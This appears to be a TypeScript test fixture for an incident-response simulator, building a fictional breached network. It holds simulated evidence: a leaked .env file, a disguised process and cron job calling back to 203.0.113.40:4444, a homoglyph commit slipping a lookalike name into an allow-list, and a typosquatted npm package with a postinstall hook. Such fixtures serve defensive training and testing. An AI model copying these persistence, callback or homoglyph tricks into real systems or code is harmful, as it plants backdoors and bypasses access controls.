import { HostSpecSchema, type CaseWorld } from "@analystbench/scenarios";

/**
 * A small, hand-written world for the simulator's own tests: two hosts, a repository with a
 * homoglyph commit, pipeline runs and packages. Independent of the benchmark content, so these
 * tests say what the simulator does, not what the scenarios contain.
 */
export const HOMOGLYPH_LINE = 'const ALLOWED = ["svc-dispatch", "svc-disp\u0430tch"];';

export function fixtureWorld(): CaseWorld {
  const web = HostSpecSchema.parse({
    role: "Web Server",
    hostname: "web-01",
    ip: "10.0.10.15",
    os: "Ubuntu 22.04.4 LTS",
    users: [{ name: "deploy", uid: 1001, groups: ["www-data"], home: "/home/deploy", shell: "/bin/bash" }],
    files: [
      {
        path: "/etc/nginx/sites-enabled/crm.conf",
        content: "server {\n  listen 443 ssl;\n  root /var/www/crm;\n  autoindex on;\n}\n",
        owner: "root:root",
        mode: "0644",
        mtime: "2026-03-01T10:00:00Z",
      },
      {
        path: "/var/www/crm/.env",
        content: "DB_PASSWORD=hunter2-prod\nAPI_KEY=ak_live_51Hx\n",
        owner: "www-data:www-data",
        mode: "0640",
      },
      {
        path: "/home/deploy/notes.txt",
        content: "alpha\nbeta\ngamma\nbeta\nalpha\nbeta\n",
        owner: "deploy:deploy",
        mode: "0600",
      },
    ],
    logs: [
      {
        path: "/var/log/nginx/access.log",
        format: "nginx-access",
        owner: "www-data:adm",
        lines: [
          {
            time: "2026-03-14T02:17:09Z",
            text: '203.0.113.21 - - [14/Mar/2026:02:17:09 +0000] "GET /.env HTTP/1.1" 200 46 "-" "python-requests/2.31.0"',
          },
        ],
        noise: { count: 400, from: "2026-03-10T00:00:00Z", to: "2026-03-18T09:00:00Z" },
      },
      {
        path: "/var/log/auth.log",
        format: "auth",
        lines: [],
        noise: { count: 200, from: "2026-03-10T00:00:00Z", to: "2026-03-20T00:00:00Z" },
      },
    ],
    processes: [
      { pid: 1, ppid: 0, user: "root", command: "/sbin/init" },
      { pid: 902, user: "root", command: "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;" },
      {
        pid: 4711,
        user: "www-data",
        command: "/tmp/.x/kworkerd -c 203.0.113.40:4444",
        started: "2026-03-14T02:20:00Z",
      },
    ],
    sockets: [
      { proto: "tcp", local: "0.0.0.0:443", state: "LISTEN", pid: 902, program: "nginx" },
      {
        proto: "tcp",
        local: "10.0.10.15:51514",
        remote: "203.0.113.40:4444",
        state: "ESTABLISHED",
        pid: 4711,
        program: "kworkerd",
      },
    ],
    services: [
      {
        name: "nginx",
        description: "A high performance web server and a reverse proxy server",
        state: "running",
        pid: 902,
      },
      { name: "cron", description: "Regular background program processing daemon", state: "running" },
    ],
    cron: [
      { user: "www-data", schedule: "*/15 * * * *", command: "/tmp/.x/kworkerd -c 203.0.113.40:4444 >/dev/null 2>&1" },
    ],
    logins: [
      { user: "deploy", tty: "pts/0", from: "10.0.40.5", start: "2026-03-17T08:00:00Z", end: "2026-03-17T08:30:00Z" },
      { user: "deploy", tty: "pts/1", from: "10.0.40.5", start: "2026-03-18T09:00:00Z" },
    ],
    journal: [
      { time: "2026-03-14T02:16:00Z", unit: "nginx", identifier: "nginx[902]", message: "reloaded configuration" },
      {
        time: "2026-03-14T02:21:00Z",
        unit: "cron",
        identifier: "CRON[5100]",
        message: "(www-data) CMD (/tmp/.x/kworkerd -c 203.0.113.40:4444)",
      },
    ],
  });
  const git = HostSpecSchema.parse({
    role: "Git Server",
    hostname: "git-01",
    ip: "10.0.30.10",
    os: "Ubuntu 22.04.4 LTS",
  });
  const ci = HostSpecSchema.parse({
    role: "CI/CD Server",
    hostname: "ci-01",
    ip: "10.0.30.11",
    os: "Ubuntu 22.04.4 LTS",
  });
  return {
    scenario: "S2",
    clock: "2026-03-18T09:30:00Z",
    hosts: [web, git, ci],
    aliases: {},
    repositories: [
      {
        name: "driver-app",
        description: "Driver mobile backend",
        default_branch: "main",
        commits: [
          {
            hash: "1111111111111111111111111111111111111111",
            author: { name: "Priya Raman", email: "priya.raman@kestrelfreight.com" },
            date: "2026-03-01T10:00:00Z",
            message: "feat: payout allow-list",
            changes: [
              {
                path: "src/config/principals.ts",
                content: 'const ALLOWED = ["svc-dispatch"];\nexport default ALLOWED;\n',
              },
            ],
          },
          {
            hash: "8737f1d1de9dc3df5247278a48f22cdaf6f34985",
            author: { name: "O. Brandt", email: "o.brandt@contractor.example" },
            date: "2026-03-12T23:41:00Z",
            message: "chore: normalise dispatch principal",
            changes: [{ path: "src/config/principals.ts", content: `${HOMOGLYPH_LINE}\nexport default ALLOWED;\n` }],
          },
          {
            hash: "2222222222222222222222222222222222222222",
            author: { name: "Marcus Chen", email: "marcus.chen@kestrelfreight.com" },
            date: "2026-03-13T09:00:00Z",
            message: "wip: feature branch",
            branch: "feature/payouts",
            changes: [{ path: "README.md", content: "# driver-app\n" }],
          },
        ],
      },
    ],
    pipelines: [
      {
        pipeline: "driver-app",
        run_id: "240",
        status: "success",
        trigger: "push",
        branch: "main",
        started: "2026-03-12T09:00:00Z",
        duration_seconds: 120,
        runner: "ci-01",
        log: "Started by push\n+ npm ci\nFinished: SUCCESS",
      },
      {
        pipeline: "driver-app",
        run_id: "241",
        status: "success",
        trigger: "push by o.brandt",
        branch: "main",
        commit: "8737f1d1de9dc3df5247278a48f22cdaf6f34985",
        started: "2026-03-12T23:45:00Z",
        duration_seconds: 300,
        runner: "ci-01",
        log: "Started by push\n+ deploy --env prod\nFinished: SUCCESS",
      },
    ],
    packages: [
      {
        name: "fast-xml-praser",
        latest_version: "5.2.7",
        author: "xml-tools-dev",
        first_published: "2026-02-01T00:00:00Z",
        downloads_last_month: 312,
        summary: "Fast XML parser",
        repository: "npmjs-proxy",
        format: "npm",
        versions: [
          {
            version: "5.2.7",
            published: "2026-02-01T00:00:00Z",
            publisher: "xml-tools-dev",
            files: { "package.json": '{"scripts":{"postinstall":"node scripts/build-native.cjs"}}' },
          },
        ],
      },
      {
        name: "fast-xml-parser",
        latest_version: "4.3.6",
        author: "naturalintelligence",
        first_published: "2017-01-01T00:00:00Z",
        downloads_last_month: 41000000,
        summary: "Validate XML, Parse XML, Build XML without C/C++ based libraries",
        repository: "npmjs-proxy",
        format: "npm",
        versions: [{ version: "4.3.6", published: "2024-03-01T00:00:00Z", publisher: "amitgupta", files: {} }],
      },
    ],
    groups: [
      {
        name: "npm-all",
        format: "npm",
        type: "group",
        attributes: { group: { memberNames: ["npmjs-proxy", "npm-internal"] } },
      },
    ],
    setupCommands: [{ role: "Web Server", command: "chown deploy:deploy /home/deploy" }],
    topology: {
      name: "Fixture network",
      segments: [{ name: "DMZ", cidr: "10.0.10.0/24", description: "Internet-facing" }],
      hosts: [
        {
          name: "Web Server",
          hostname: "web-01",
          ip: "10.0.10.15",
          os: "Ubuntu 22.04.4 LTS",
          segment: "DMZ",
          roles: ["Web Server"],
        },
      ],
      notes: ["Fixture."],
    },
  };
}
